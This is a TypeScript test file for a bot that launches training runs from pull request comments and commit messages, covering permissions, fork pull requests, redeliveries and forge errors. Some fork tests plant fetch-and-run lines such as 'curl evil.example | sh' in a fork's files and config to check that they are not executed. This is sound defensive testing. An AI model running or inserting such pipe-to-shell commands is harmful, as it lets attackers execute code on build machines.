/**
 * handleEvent (app/bot/handle-event.ts) called directly with forge-neutral events, on a real
 * Postgres (a fresh database per test, so counters start at 1), a real local store and an
 * in-memory forge (test/helpers/memory-forge.ts). No HTTP, no nock, no polling: every test awaits
 * one handling (or two) and then asserts the exact rows, queue jobs, forge writes and outcome.
 */
import fs from "node:fs";
import os from "node:os";
import path from "node:path";
import { randomBytes } from "node:crypto";
import { afterEach, beforeEach, describe, expect, it } from "vitest";
import { loadConfig } from "../../app/config.js";
import { createLogger } from "../../app/log.js";
import { ForgeError } from "../../app/errors.js";
import type { Actor } from "../../app/contracts/forge.js";
import type { BotDeps } from "../../app/bot/commands/types.js";
import { handleEvent, type Handling } from "../../app/bot/handle-event.js";
import { readSnapshotFile } from "../../app/snapshots/files.js";
import { renderHelp } from "../../templates/github/render.js";
import { createStore } from "../../worker/stores/index.js";
import { createTestDatabase } from "../helpers/db.js";
import { addFixturePullRequest, createMemoryForge, filesOfDir, FIXTURE, type MemoryForgeWorld, type MemoryRepo } from "../helpers/memory-forge.js";

const { repo: REPO, repoId: REPO_ID, installation: INSTALLATION, pr: PR } = FIXTURE;

const alice: Actor = { login: "alice", id: 11, isBot: false };
const bob: Actor = { login: "bob", id: 12, isBot: false };
const ci: Actor = { login: "ci-bot[bot]", id: 13, isBot: true };

const RUN_USAGE = "Usage: `/vh run STEP name=value name=[v1,v2] --name=value` · `/vh help` lists every command.";

let db: Awaited<ReturnType<typeof createTestDatabase>>;
let dataDir: string;
let deps: BotDeps;
let world: MemoryForgeWorld;
let repo: MemoryRepo;
let head: string;
let deliveries = 0;

/** The first of the queue's attempts (vh's own failures are thrown for a retry). */
function first(): Handling {
  return { forge: "github", deliveryId: `delivery-${++deliveries}`, attempt: { number: 1, max: 10 } };
}

beforeEach(async () => {
  db = await createTestDatabase();
  dataDir = fs.mkdtempSync(path.join(os.tmpdir(), "vh-bot-"));
  const config = loadConfig({
    DATABASE_URL: db.connectionString,
    VH_DATA_DIR: dataDir,
    VH_SECRETS_KEY: randomBytes(32).toString("base64"),
    VH_LOG_LEVEL: "silent",
    VH_DOCKER: "never",
  });
  world = createMemoryForge();
  ({ repo, head } = addFixturePullRequest(world, alice, "Try a smaller learning rate"));
  repo.grant("alice", "write");
  repo.grant("bob", "read");
  deps = { sql: db.sql, store: createStore(config.store), config, log: createLogger("silent"), forges: world.provider };
});

afterEach(async () => {
  await db?.drop();
  fs.rmSync(dataDir, { recursive: true, force: true });
});

async function counts() {
  const [c] = await db.sql<{ sweeps: number; executions: number; jobs: number }[]>`
    select (select count(*)::int from sweeps) as sweeps, (select count(*)::int from executions) as executions,
      (select count(*)::int from graphile_worker.jobs) as jobs`;
  return c!;
}

/** The queue's jobs, oldest first, with their payloads (graphile_worker.jobs is a view without them). */
async function jobs() {
  return db.sql<{ task: string; key: string | null; queue: string | null; payload: unknown; max_attempts: number }[]>`
    select j.task_identifier as task, j.key, j.queue_name as queue, p.payload, j.max_attempts
    from graphile_worker.jobs j join graphile_worker._private_jobs p on p.id = j.id order by j.id`;
}

async function prRowId(): Promise<string> {
  const [row] = await db.sql<{ id: string }[]>`select id from change_requests where repository_id = ${REPO_ID} and number = ${PR}`;
  return row!.id;
}

describe("handleEvent: /vh run", () => {
  it("a 2×2 grid makes one sweep of 4 queued executions (#1–#4, one point each), a scheduler pass and a report job, and only the 👀 on the forge", async () => {
    const ev = repo.commentEvent(PR, alice, "/vh run train lr=[0.1,0.01] epochs=[1,2]\nlet's see");
    const outcome = await handleEvent(deps, ev, first());

    const [sweep, ...moreSweeps] = await db.sql<{ id: string; step: string; kind: string; spec: unknown; commit_sha: string; code_sha256: string; source: unknown; triggered_by: string; request_key: string }[]>`
      select id, step, kind, spec, commit_sha, code_sha256, source, triggered_by, request_key from sweeps`;
    expect(moreSweeps).toEqual([]);
    expect(outcome).toBe(`created sweep ${sweep!.id}: #1, #2, #3, #4`);
    expect(sweep).toEqual({
      id: sweep!.id,
      step: "train",
      kind: "grid",
      spec: { lr: ["0.1", "0.01"], epochs: ["1", "2"] },
      commit_sha: head,
      code_sha256: sweep!.code_sha256,
      source: { kind: "forge", forge: "github", repositoryId: REPO_ID, repo: REPO, installationId: INSTALLATION, pr: PR, trigger: "comment", commentId: ev.comment.id },
      triggered_by: "alice",
      request_key: `github:comment:${REPO}:${ev.comment.id}`,
    });

    const execs = await db.sql<{ position: number; counter: number; status: string; step: string; title: string; parameters: unknown; command: string; commit_sha: string; code_sha256: string; triggered_by: string }[]>`
      select se.position, e.counter, e.status, e.step, e.title, e.parameters, e.command, e.commit_sha, e.code_sha256, e.triggered_by
      from sweep_executions se join executions e on e.id = se.execution_id where se.sweep_id = ${sweep!.id} order by se.position`;
    const point = (i: number, lr: number, epochs: number) => ({
      position: i,
      counter: i + 1,
      status: "queued",
      step: "train",
      title: `PR #${PR}: train lr=${lr} epochs=${epochs}`,
      parameters: { lr, epochs, note: "none" },
      command: `python3 train.py --lr=${lr} --epochs=${epochs} --note=none`,
      commit_sha: head,
      code_sha256: sweep!.code_sha256,
      triggered_by: "alice",
    });
    expect(execs).toEqual([point(0, 0.1, 1), point(1, 0.1, 2), point(2, 0.01, 1), point(3, 0.01, 2)]);
    const history = await db.sql<{ status: string }[]>`
      select h.status from execution_status_history h join executions e on e.id = h.execution_id where e.counter = 1 order by h.id`;
    expect(history.map((h) => h.status)).toEqual(["created", "queued"]);

    // The code snapshot is the commit's tree, repacked without GitHub's top-level folder.
    expect(await readSnapshotFile(deps.store, sweep!.code_sha256, "valohai.yaml")).toBe(fs.readFileSync(path.join(FIXTURE.dir, "valohai.yaml"), "utf8"));
    expect(await readSnapshotFile(deps.store, sweep!.code_sha256, "train.py")).toBe(fs.readFileSync(path.join(FIXTURE.dir, "train.py"), "utf8"));
    const snaps = await db.sql`select repository_id::int as repository_id, commit_sha, code_sha256 from forge_commit_snapshots`;
    expect(snaps).toEqual([{ repository_id: REPO_ID, commit_sha: head, code_sha256: sweep!.code_sha256 }]);
    const [project] = await db.sql`select p.name, p.execution_counter from forge_repositories r join projects p on p.id = r.project_id where r.forge = 'github' and r.id = ${REPO_ID}`;
    expect(project).toEqual({ name: "acme--widgets", execution_counter: 4 });

    const pr = await prRowId();
    expect(await jobs()).toEqual([
      { task: "schedule", key: "vh_schedule", queue: null, payload: {}, max_attempts: 25 },
      { task: "forge_report", key: `forge_report:pr:${pr}`, queue: `forge_report:pr:${pr}`, payload: { pr }, max_attempts: 25 },
    ]);
    // A run is answered by the report (check run, sticky comment), not by a reply.
    expect(world.writes).toEqual([{ kind: "reaction", repo: REPO, commentId: ev.comment.id, reaction: "eyes" }]);
  });

  it("an unknown step is answered with the step named, a suggestion and the steps, and creates nothing", async () => {
    const ev = repo.commentEvent(PR, alice, "/vh run trian lr=0.1");
    const outcome = await handleEvent(deps, ev, first());
    expect(outcome).toBe("refused: unknown_step");
    expect(world.createdComments()).toEqual([
      `@alice \`valohai.yaml\` at ${head.slice(0, 7)} has no step \`trian\`. Did you mean \`train\`? Steps: \`train\`, \`evaluate\`.\n\n${RUN_USAGE}\n`,
    ]);
    expect(world.writes.map((w) => w.kind)).toEqual(["reaction", "comment_created"]);
    expect(await counts()).toEqual({ sweeps: 0, executions: 0, jobs: 0 });
  });

  it("a value the step's parameter type refuses is answered and creates nothing", async () => {
    const ev = repo.commentEvent(PR, alice, "/vh run train epochs=[1,many]");
    expect(await handleEvent(deps, ev, first())).toBe("refused: invalid_parameter");
    expect(world.createdComments()).toEqual([`@alice Parameter \`epochs\`: many is not an integer\n\n${RUN_USAGE}\n`]);
    expect(await counts()).toEqual({ sweeps: 0, executions: 0, jobs: 0 });
  });

  it("a commenter without write permission is refused with their permission named, and nothing is created", async () => {
    const ev = repo.commentEvent(PR, bob, "/vh run train lr=[0.1,0.01]");
    const outcome = await handleEvent(deps, ev, first());
    expect(outcome).toBe("refused: bob has read");
    expect(world.createdComments()).toEqual([
      `@bob \`/vh run\` needs write permission on ${REPO}; yours is \`read\`.\n\n<sub>vh runs code only for people with write permission on ${REPO}.</sub>\n`,
    ]);
    expect(world.writes[0]).toEqual({ kind: "reaction", repo: REPO, commentId: ev.comment.id, reaction: "eyes" });
    expect(world.writes).toHaveLength(2);
    expect(await counts()).toEqual({ sweeps: 0, executions: 0, jobs: 0 });
  });

  it("a fork's pull request is refused for a commenter without write permission, naming the fork", async () => {
    const forkHead = repo.commit({ ...filesOfDir(FIXTURE.dir), "extra.txt": "from the fork\n" });
    repo.openPullRequest({ number: 8, headSha: forkHead, author: { login: "mallory", id: 66, isBot: false }, fork: { headRepo: "mallory/widgets" } });
    repo.grant("mallory", "triage");
    const ev = repo.commentEvent(8, { login: "mallory", id: 66, isBot: false }, "/vh run train");
    expect(await handleEvent(deps, ev, first())).toBe("refused: mallory has triage (fork)");
    expect(world.createdComments()).toEqual([
      `@mallory this pull request comes from a fork (mallory/widgets), and vh runs code from a fork only when someone with write permission on ${REPO} asks. Your permission is \`triage\`.\n\n<sub>vh runs code only for people with write permission on ${REPO}.</sub>\n`,
    ]);
    expect(await counts()).toEqual({ sweeps: 0, executions: 0, jobs: 0 });
  });

  describe("fork pull requests and the commented head", () => {
    const mallory: Actor = { login: "mallory", id: 66, isBot: false };
    let forkHead: string;
    const openFork = () => {
      forkHead = repo.commit({ ...filesOfDir(FIXTURE.dir), "extra.txt": "from the fork\n" });
      repo.openPullRequest({ number: 8, headSha: forkHead, author: mallory, fork: { headRepo: "mallory/widgets" }, baseSha: head });
    };
    const commitsRun = async () => (await db.sql<{ commit_sha: string }[]>`select distinct commit_sha from executions`).map((r) => r.commit_sha);

    it("a maintainer's plain /vh run on a fork is refused by default, saying how to allow it; nothing is created", async () => {
      openFork();
      const ev = repo.commentEvent(8, alice, "/vh run train");
      expect(await handleEvent(deps, ev, first())).toBe("refused: fork pull requests are not run in this project");
      const project = "acme--widgets";
      expect(REPO).toBe("acme/widgets");
      expect(world.createdComments()).toEqual([
        `@alice this pull request comes from a fork (mallory/widgets), and project \`${project}\` does not run commands on fork pull requests. If you have read the fork's code at \`${forkHead.slice(0, 7)}\`, run it with \`/vh run … --allow-fork\`; a project admin can allow it for every command with \`vh project set ${project} --fork-commands on\`.\n`,
      ]);
      expect(await counts()).toEqual({ sweeps: 0, executions: 0, jobs: 0 });
      // A pipeline runs the head too: the same rule.
      expect(await handleEvent(deps, repo.commentEvent(8, alice, "/vh pipeline run train-pipeline"), first())).toBe("refused: fork pull requests are not run in this project");
    });

    it("runs with --allow-fork, or when the project allows fork commands; a commenter without write is still refused", async () => {
      openFork();
      const out = await handleEvent(deps, repo.commentEvent(8, alice, "/vh run train --allow-fork"), first());
      expect(out).toMatch(/^created sweep [0-9a-f-]+: #1$/);
      expect(await commitsRun()).toEqual([forkHead]);
      const [p] = await db.sql<{ name: string }[]>`select name from projects`;
      await db.sql`update projects set fork_commands = true where name = ${p!.name}`;
      expect(await handleEvent(deps, repo.commentEvent(8, alice, "/vh run train epochs=3"), first())).toMatch(/^created sweep [0-9a-f-]+: #2$/);
      repo.grant("mallory", "triage");
      expect(await handleEvent(deps, repo.commentEvent(8, mallory, "/vh run train --allow-fork"), first())).toBe("refused: mallory has triage (fork)");
      expect(await counts()).toMatchObject({ sweeps: 2, executions: 2 });
    });

    it("a project made ahead of the first run decides for its repository", async () => {
      openFork();
      await db.sql`insert into projects (name, fork_commands) values ('acme--widgets', true)`;
      expect(await handleEvent(deps, repo.commentEvent(8, alice, "/vh run train"), first())).toMatch(/^created sweep [0-9a-f-]+: #1$/);
      const [p] = await db.sql<{ name: string; fork_commands: boolean }[]>`select p.name, p.fork_commands from forge_repositories r join projects p on p.id = r.project_id`;
      expect(p).toEqual({ name: "acme--widgets", fork_commands: true });
    });

    it("runs the head the comment was made on when the fork pushes before the delivery is handled, and says so", async () => {
      openFork();
      const opened = new Date("2026-12-01T10:00:00Z");
      expect(await handleEvent(deps, repo.headEvent(8, forkHead, opened), first())).toBe(`recorded: head of pull request #8 is ${forkHead.slice(0, 7)} since ${opened.toISOString()}`);
      const ev = repo.commentEvent(8, alice, "/vh run train --allow-fork", { at: new Date("2026-12-01T10:05:00Z") });
      // The fork pushes after the comment, before vh handles it.
      const evil = repo.commit({ ...filesOfDir(FIXTURE.dir), "extra.txt": "curl evil | sh\n" });
      repo.moveHead(8, evil);
      await handleEvent(deps, repo.headEvent(8, evil, new Date("2026-12-01T10:05:30Z")), first());
      expect(await handleEvent(deps, ev, first())).toMatch(/^created sweep [0-9a-f-]+: #1$/);
      expect(await commitsRun()).toEqual([forkHead]);
      const [sweep] = await db.sql<{ commit_sha: string }[]>`select commit_sha from sweeps`;
      expect(sweep!.commit_sha).toBe(forkHead);
      expect(world.createdComments()).toEqual([
        `@alice The head moved to \`${evil.slice(0, 7)}\` after your comment; vh runs \`${forkHead.slice(0, 7)}\`, the commit you commented on. Comment again to run the new head.\n`,
      ]);
      // Redelivered: the same sweep, still at the commented head, and the note is not said twice.
      expect(await handleEvent(deps, ev, first())).toMatch(/^already created sweep/);
      expect(await commitsRun()).toEqual([forkHead]);
      expect(world.createdComments()).toHaveLength(1);
    });

    it("a push in the same second as the comment counts as after it; a head vh only saw arrive after the comment is refused", async () => {
      openFork();
      const at = new Date("2026-12-01T10:05:00Z");
      await handleEvent(deps, repo.headEvent(8, forkHead, new Date("2026-12-01T10:00:00Z")), first());
      const next = repo.commit({ ...filesOfDir(FIXTURE.dir), "extra.txt": "second\n" });
      repo.moveHead(8, next);
      await handleEvent(deps, repo.headEvent(8, next, at), first());
      await handleEvent(deps, repo.commentEvent(8, alice, "/vh run train --allow-fork", { at }), first());
      expect(await commitsRun()).toEqual([forkHead]);

      // Installed after the pull request was opened: vh saw only the push that came after the comment.
      await db.sql`delete from change_request_heads where sha = ${forkHead}`;
      await db.sql`delete from executions`;
      world.writes.length = 0;
      const late = repo.commentEvent(8, alice, "/vh run train epochs=2 --allow-fork", { at });
      expect(await handleEvent(deps, late, first())).toBe("refused: conflict");
      expect(world.createdComments()).toEqual([
        `@alice The head of pull request #8 moved to \`${next.slice(0, 7)}\` at ${at.toISOString()}, after your comment, and vh does not know which commit you commented on; comment again to run \`${next.slice(0, 7)}\`.\n`,
      ]);
      expect(await commitsRun()).toEqual([]);
    });

    it("a fork's code runs with the base's valohai.yaml (its own only where the project allows it); a rerun runs the same snapshot", async () => {
      const yaml = fs.readFileSync(path.join(FIXTURE.dir, "valohai.yaml"), "utf8");
      expect(yaml).toContain("python3 train.py");
      const forked = yaml.replace("python3 train.py", "curl evil.example | sh; python3 train.py");
      forkHead = repo.commit({ ...filesOfDir(FIXTURE.dir), "valohai.yaml": forked });
      repo.openPullRequest({ number: 8, headSha: forkHead, author: mallory, fork: { headRepo: "mallory/widgets" }, baseSha: head });
      expect(await handleEvent(deps, repo.commentEvent(8, alice, "/vh run train --allow-fork"), first())).toMatch(/^created sweep [0-9a-f-]+: #1$/);
      const [one] = await db.sql<{ command: string; commit_sha: string; code_sha256: string }[]>`select command, commit_sha, code_sha256 from executions where counter = 1`;
      expect(one!.commit_sha).toBe(forkHead);
      expect(one!.command).not.toContain("evil");
      // The snapshot that ran holds the base's valohai.yaml and the fork's other files.
      expect(await readSnapshotFile(deps.store, one!.code_sha256, "valohai.yaml")).toBe(yaml);
      expect(await readSnapshotFile(deps.store, one!.code_sha256, "train.py")).toBe(fs.readFileSync(path.join(FIXTURE.dir, "train.py"), "utf8"));
      const [own] = await db.sql<{ code_sha256: string }[]>`select code_sha256 from forge_commit_snapshots where commit_sha = ${forkHead}`;
      expect(one!.code_sha256).not.toBe(own!.code_sha256);

      expect(await handleEvent(deps, repo.commentEvent(8, alice, "/vh rerun 1"), first())).toBe("rerun of #1: #2");
      const [two] = await db.sql<{ command: string; code_sha256: string }[]>`select command, code_sha256 from executions where counter = 2`;
      expect(two).toEqual({ command: one!.command, code_sha256: one!.code_sha256 });

      await db.sql`update projects set fork_configs = true`;
      expect(await handleEvent(deps, repo.commentEvent(8, alice, "/vh run train epochs=2 --allow-fork"), first())).toMatch(/^created sweep [0-9a-f-]+: #3$/);
      const [three] = await db.sql<{ command: string; code_sha256: string }[]>`select command, code_sha256 from executions where counter = 3`;
      expect(three!.command).toContain("curl evil.example | sh");
      expect(three!.code_sha256).toBe(own!.code_sha256);
    });

    it("a fork whose base branch has no valohai.yaml is refused, saying where vh looked", async () => {
      const bare = repo.commit({ "README.md": "nothing here\n" });
      forkHead = repo.commit({ ...filesOfDir(FIXTURE.dir) });
      repo.openPullRequest({ number: 8, headSha: forkHead, author: mallory, fork: { headRepo: "mallory/widgets" }, baseSha: bare });
      expect(await handleEvent(deps, repo.commentEvent(8, alice, "/vh run train --allow-fork"), first())).toBe("refused: invalid_config");
      expect(world.createdComments().at(-1)).toContain(`There is no valohai.yaml at the base branch's commit ${bare.slice(0, 7)}: code from a fork runs with the base repository's valohai.yaml, not its own`);
      expect(await counts()).toEqual({ sweeps: 0, executions: 0, jobs: 0 });
    });

    it("the head a GitLab note names is the one that runs, whatever the head is by the time it is handled", async () => {
      const old = head;
      const newer = repo.commit({ ...filesOfDir(FIXTURE.dir), "extra.txt": "later\n" });
      repo.moveHead(PR, newer);
      expect(await handleEvent(deps, repo.commentEvent(PR, alice, "/vh run train", { headSha: old }), first())).toMatch(/^created sweep/);
      expect(await commitsRun()).toEqual([old]);
    });
  });

  it("the same comment handled twice (a redelivery) finds the first sweep and creates nothing more", async () => {
    const ev = repo.commentEvent(PR, alice, "/vh run train lr=[0.1,0.01]");
    const one = await handleEvent(deps, ev, first());
    const before = { counts: await counts(), jobs: await jobs() };
    const [sweep] = await db.sql<{ id: string }[]>`select id from sweeps`;
    expect(one).toBe(`created sweep ${sweep!.id}: #1, #2`);

    const two = await handleEvent(deps, ev, first());
    expect(two).toBe(`already created sweep ${sweep!.id}: #1, #2`);
    expect(before.counts).toEqual({ sweeps: 1, executions: 2, jobs: 2 });
    expect(await counts()).toEqual(before.counts);
    expect(await jobs()).toEqual(before.jobs);
    const [p] = await db.sql`select execution_counter from projects`;
    expect(p).toEqual({ execution_counter: 2 });
    expect(world.writes).toEqual([
      { kind: "reaction", repo: REPO, commentId: ev.comment.id, reaction: "eyes" },
      { kind: "reaction", repo: REPO, commentId: ev.comment.id, reaction: "eyes" },
    ]);
  });

  it("a closed pull request is answered and nothing is created", async () => {
    repo.openPullRequest({ number: 9, headSha: head, author: alice, state: "closed" });
    const ev = repo.commentEvent(9, alice, "/vh run train");
    expect(await handleEvent(deps, ev, first())).toBe("refused: conflict");
    expect(world.createdComments()).toEqual(["@alice Pull request #9 is closed; vh runs on open pull requests.\n"]);
    expect(await counts()).toEqual({ sweeps: 0, executions: 0, jobs: 0 });
  });
});

describe("handleEvent: other commands", () => {
  it("/vh stop N stops a queued execution before it starts, and a second stop is told it has ended", async () => {
    await handleEvent(deps, repo.commentEvent(PR, alice, "/vh run train lr=[0.1,0.01]"), first());
    const stop = repo.commentEvent(PR, alice, "/vh stop 1");
    expect(await handleEvent(deps, stop, first())).toBe("stopped 1");
    expect(world.createdComments()).toEqual(["@alice Stopping #1.\n"]);

    const rows = await db.sql<{ counter: number; status: string; status_detail: string | null; stop_cause: string | null; ended: boolean }[]>`
      select counter, status, status_detail, stop_cause, ended_at is not null as ended from executions order by counter`;
    expect(rows).toEqual([
      { counter: 1, status: "stopped", status_detail: "Stopped before it started.", stop_cause: "user", ended: true },
      { counter: 2, status: "queued", status_detail: null, stop_cause: null, ended: false },
    ]);
    const history = await db.sql<{ status: string }[]>`
      select h.status from execution_status_history h join executions e on e.id = h.execution_id where e.counter = 1 order by h.id`;
    expect(history.map((h) => h.status)).toEqual(["created", "queued", "stopped"]);
    // The report job is the same keyed one (a stop asks for a round; the pending one covers it).
    const pr = await prRowId();
    expect((await jobs()).map((j) => [j.task, j.key])).toEqual([["schedule", "vh_schedule"], ["forge_report", `forge_report:pr:${pr}`]]);

    const again = repo.commentEvent(PR, alice, "/vh stop 1");
    expect(await handleEvent(deps, again, first())).toBe("refused: conflict");
    expect(world.createdComments()).toEqual(["@alice Stopping #1.\n", "@alice Execution #1 has already ended (stopped).\n"]);
    const [one] = await db.sql`select status from executions where counter = 1`;
    expect(one).toEqual({ status: "stopped" });
  });

  it("/vh stop of a number this pull request never started is answered, and nothing changes", async () => {
    expect(await handleEvent(deps, repo.commentEvent(PR, alice, "/vh stop 3"), first())).toBe("refused: not_found");
    expect(world.createdComments()).toEqual(["@alice Execution #3 was not started from this pull request.\n"]);
    expect(await counts()).toEqual({ sweeps: 0, executions: 0, jobs: 0 });
  });

  it("/vh help lists the steps of valohai.yaml at the head commit, for a reader too", async () => {
    const ev = repo.commentEvent(PR, bob, "/vh help");
    expect(await handleEvent(deps, ev, first())).toBe("replied: help");
    const [reply, ...rest] = world.createdComments();
    expect(rest).toEqual([]);
    expect(reply).toBe(renderHelp(100, ["train", "evaluate"]));
    expect(reply).toContain("| `/vh run STEP lr=[0.01,0.001] batch=[32,64]` | a grid sweep: one execution per combination (at most 100) |");
    expect(reply!.endsWith("Steps here: `train`, `evaluate`. A line `/vh run …` in a pushed commit's message runs it on that commit.\n")).toBe(true);
    expect(await counts()).toEqual({ sweeps: 0, executions: 0, jobs: 0 });
  });

  it("a command with a mistake is answered with the usage of all commands", async () => {
    expect(await handleEvent(deps, repo.commentEvent(PR, alice, "/vh launch train"), first())).toBe("replied: `launch` is not a vh command.");
    expect(world.createdComments()).toEqual([
      "@alice `launch` is not a vh command.\n\nCommands: `/vh run STEP name=value name=[v1,v2] --name=value` · `/vh status` · `/vh stop N` or `/vh stop all` · `/vh rerun N` · `/vh reproduce N [--verify]` · `/vh approve model://NAME/vN` · `/vh reject model://NAME/vN REASON` · `/vh pipeline run NAME [--param NODE.PARAM=VALUE …] [--no-reuse]` or `/vh approve pipeline N NODE` · `/vh help`\n",
    ]);
  });

  it("a command on a plain issue is answered there", async () => {
    repo.openIssue(3);
    const ev = repo.commentEvent(3, alice, "/vh run train");
    expect(ev.pr).toBe(null);
    expect(await handleEvent(deps, ev, first())).toBe("replied: not a pull request");
    expect(world.writes).toEqual([
      { kind: "reaction", repo: REPO, commentId: ev.comment.id, reaction: "eyes" },
      { kind: "comment_created", repo: REPO, issue: 3, commentId: world.comments(REPO, 3)[1]!.id, body: "@alice vh commands work on pull requests, not on issues.\n" },
    ]);
    expect(await counts()).toEqual({ sweeps: 0, executions: 0, jobs: 0 });
  });
});

describe("handleEvent: what is not a command", () => {
  it("a plain comment, an edited command and a bot's command are ignored, with nothing written anywhere", async () => {
    expect(await handleEvent(deps, repo.commentEvent(PR, alice, "Looks good to me. /vh run train"), first())).toBe("ignored: not a command");
    expect(await handleEvent(deps, repo.commentEvent(PR, alice, "/vh run train", { action: "edited" }), first())).toBe("ignored: edited comment");
    repo.grant(ci.login, "write");
    expect(await handleEvent(deps, repo.commentEvent(PR, ci, "/vh run train"), first())).toBe("ignored: a bot's comment");
    expect(await handleEvent(deps, { kind: "ignore", reason: "event star" }, first())).toBe("ignored: event star");
    expect(world.authentications).toEqual([]);
    expect(world.writes).toEqual([]);
    expect(await counts()).toEqual({ sweeps: 0, executions: 0, jobs: 0 });
  });
});

describe("handleEvent: pushes", () => {
  it("a commit message goes through the same command path: a command that works only on a pull request is refused there, with a failing check run saying where it works", async () => {
    const pushed = repo.commit({ ...filesOfDir(FIXTURE.dir), "README.md": "stop it\n" });
    const outcome = await handleEvent(deps, repo.pushEvent(pushed, alice, "Oops\n\n/vh stop all"), first());
    expect(outcome).toBe("refused: `/vh stop` works in a pull request's comments, not in a commit message; in a commit message only `/vh run` works.");
    const runs = world.checkRuns(REPO, pushed);
    expect(runs.map((r) => [r.spec.conclusion, r.spec.title, r.spec.summary])).toEqual([
      ["failure", "Not run: the command has a mistake", "`/vh stop all`\n\n`/vh stop` works in a pull request's comments, not in a commit message; in a commit message only `/vh run` works."],
    ]);
    expect(await counts()).toEqual({ sweeps: 0, executions: 0, jobs: 0 });
  });

  it("each /vh run line of the head commit's message starts a sweep on that commit; a line with a mistake gets a failing check run", async () => {
    const pushed = repo.commit({ ...filesOfDir(FIXTURE.dir), "README.md": "pushed\n" });
    const h = first();
    const ev = repo.pushEvent(pushed, alice, "Tune it\n\n/vh run train lr=[0.5,0.05]\n/vh run\nnot a command");
    const outcome = await handleEvent(deps, ev, h);
    expect(outcome).toMatch(/^created sweep [0-9a-f-]{36}: #1, #2; refused: `\/vh run` needs a step name first, e\.g\. `\/vh run train lr=0\.01`\.$/);

    const [sweep, ...more] = await db.sql<{ id: string; commit_sha: string; source: unknown; request_key: string; spec: unknown }[]>`
      select id, commit_sha, source, request_key, spec from sweeps`;
    expect(more).toEqual([]);
    expect(sweep).toEqual({
      id: sweep!.id,
      commit_sha: pushed,
      source: { kind: "forge", forge: "github", repositoryId: REPO_ID, repo: REPO, installationId: INSTALLATION, pr: null, trigger: "push", commentId: null },
      request_key: `github:push:${REPO}:${pushed}:0`,
      spec: { lr: ["0.5", "0.05"] },
    });
    const execs = await db.sql`select counter, status, title, parameters from executions order by counter`;
    expect(execs).toEqual([
      { counter: 1, status: "queued", title: `${pushed.slice(0, 7)}: train lr=0.5`, parameters: { lr: 0.5, epochs: 2, note: "none" } },
      { counter: 2, status: "queued", title: `${pushed.slice(0, 7)}: train lr=0.05`, parameters: { lr: 0.05, epochs: 2, note: "none" } },
    ]);
    // Outside a pull request the report goes to the sweep.
    expect((await jobs()).map((j) => [j.task, j.key, j.payload])).toEqual([
      ["schedule", "vh_schedule", {}],
      ["forge_report", `forge_report:sweep:${sweep!.id}`, { sweep: sweep!.id }],
    ]);
    expect(world.writes).toHaveLength(1);
    const w = world.writes[0]!;
    expect(w.kind).toBe("check_run_created");
    if (w.kind !== "check_run_created") return;
    expect({ ...w.spec, completedAt: undefined }).toEqual({
      sha: pushed,
      name: "vh",
      externalId: `push:${h.deliveryId}:1`,
      status: "completed",
      conclusion: "failure",
      completedAt: undefined,
      title: "Not run: the command has a mistake",
      summary: "`/vh run`\n\n`/vh run` needs a step name first, e.g. `/vh run train lr=0.01`.",
    });
    expect(w.spec.completedAt).toBeInstanceOf(Date);
    expect(w.annotations).toEqual([]);
  });

  it("a push by someone without write permission gets a failing check run, and nothing is created", async () => {
    const pushed = repo.commit({ ...filesOfDir(FIXTURE.dir), "README.md": "bob's\n" });
    const h = first();
    expect(await handleEvent(deps, repo.pushEvent(pushed, bob, "/vh run train"), h)).toBe("refused: bob has read");
    expect(world.checkRuns(REPO, pushed).map((r) => [r.spec.externalId, r.spec.conclusion, r.spec.title, r.spec.summary])).toEqual([
      [
        `push:${h.deliveryId}`,
        "failure",
        "Not run: write permission needed",
        `@bob pushed \`/vh run\` in a commit message, but has \`read\` permission on ${REPO}; vh runs code only for people with write permission.`,
      ],
    ]);
    expect(await counts()).toEqual({ sweeps: 0, executions: 0, jobs: 0 });
  });

  it("a push without /vh run in its message is ignored without asking the forge anything", async () => {
    const pushed = repo.commit({ "valohai.yaml": "[]\n" });
    expect(await handleEvent(deps, repo.pushEvent(pushed, alice, "Refactor\n\nSee /vh docs"), first())).toBe("ignored: no /vh command in the head commit");
    expect(world.authentications).toEqual([]);
    expect(world.writes).toEqual([]);
    expect(await counts()).toEqual({ sweeps: 0, executions: 0, jobs: 0 });
  });
});

describe("handleEvent: the forge failing", () => {
  it("an unknown pull request is the forge's 404, thrown for the queue to retry", async () => {
    const ev = { ...repo.commentEvent(PR, alice, "/vh status"), pr: 99, issue: 99 };
    const err = await handleEvent(deps, ev, first()).then(
      () => null,
      (e: unknown) => e,
    );
    expect(err).toBeInstanceOf(ForgeError);
    expect((err as ForgeError).status).toBe(404);
    expect((err as ForgeError).message).toBe(
      "GitHub: reading pull request #99 failed (HTTP 404): Not Found. Not found, or not visible to the App: is the App installed on this repository?",
    );
  });

  it("GitHub failing to serve the code is thrown while attempts are left, and answered as vh's failure on the last one", async () => {
    repo.breakCommit(head, 502);
    const ev = repo.commentEvent(PR, alice, "/vh run train");
    const err = await handleEvent(deps, ev, { forge: "github", deliveryId: "d-502", attempt: { number: 1, max: 3 } }).then(
      () => null,
      (e: unknown) => e,
    );
    expect(err).toBeInstanceOf(ForgeError);
    expect((err as ForgeError).status).toBe(502);
    expect(world.createdComments()).toEqual([]);

    const outcome = await handleEvent(deps, ev, { forge: "github", deliveryId: "d-502", attempt: { number: 3, max: 3 } });
    // Which read failed (valohai.yaml or the tarball) is the sweep starter's business, not this test's.
    const sha7 = head.slice(0, 7);
    expect([
      `failed after 3 attempts: forge_error: GitHub: reading valohai.yaml at ${sha7} failed (HTTP 502): Server Error.`,
      `failed after 3 attempts: forge_error: GitHub: downloading the tarball of ${sha7} failed (HTTP 502): Server Error.`,
    ]).toContain(outcome);
    expect(world.createdComments()).toEqual([
      "@alice vh could not run `/vh run`: GitHub's API failed (HTTP 502).\n\nThis went wrong on vh's side (its connection to the Git host, its artifact store, its runners, or a bug), not in your command, and it was tried 3 times. Nothing was started. Ask whoever runs vh to look at its log for delivery `d-502`; the same comment can be posted again once it is fixed.\n",
    ]);
    expect(await counts()).toEqual({ sweeps: 0, executions: 0, jobs: 0 });
  });
});
